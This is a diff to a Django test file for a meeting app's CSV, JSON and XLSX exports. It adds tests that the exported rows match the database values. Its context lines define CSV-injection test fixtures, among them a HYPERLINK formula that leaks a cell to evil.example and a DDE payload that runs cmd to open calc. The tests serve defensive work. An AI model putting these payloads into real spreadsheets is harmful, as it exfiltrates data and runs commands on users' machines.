@@ -12,8 +12,9 @@ from openpyxl import load_workbook
 
 from meetings.formats import FORMULA_START, neutralise, restore
 from meetings.models import Meeting, MeetingCountry, Person
+from meetings.views.lists import MeetingListView
 from tests.factories import AttendanceFactory, MeetingFactory, OrganizationFactory, PersonFactory
-from tests.test_import import confirm, empty_database, exported, upload
+from tests.test_import import build_world, confirm, empty_database, exported, upload
 
 LEAK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'
 HOSTILE = [LEAK, "+44 20 7218 9000", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "'=already quoted", "''"]
@@ -92,3 +93,23 @@ def test_hostile_values_travel_there_and_back_exactly(editor_client, url, fmt):
     if url == "/meetings/":
         assert set(Meeting.objects.values_list("title", flat=True)) == titles
         assert set(Person.objects.values_list("name", flat=True)) == names
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_the_meeting_export_gives_the_tables_own_values(editor_client, monkeypatch, fmt):
+    """The export reads values() queries, not table cells; both must give the same rows."""
+    build_world()
+    hostile_world()
+    fast = exported(editor_client, "/meetings/", fmt)
+    monkeypatch.setattr(MeetingListView, "export_builder", None)
+    assert exported(editor_client, "/meetings/", fmt) == fast
+    assert len(fast) == 2 + len(HOSTILE) + 1
+
+
+@pytest.mark.django_db
+def test_json_and_xlsx_exports_are_written_as_they_are_read(editor_client):
+    MeetingFactory(title="Kenya–UK defence talks")
+    for fmt in ("json", "xlsx"):
+        response = editor_client.get("/meetings/", {"export": fmt})
+        assert response.streaming and "attachment" in response["Content-Disposition"]
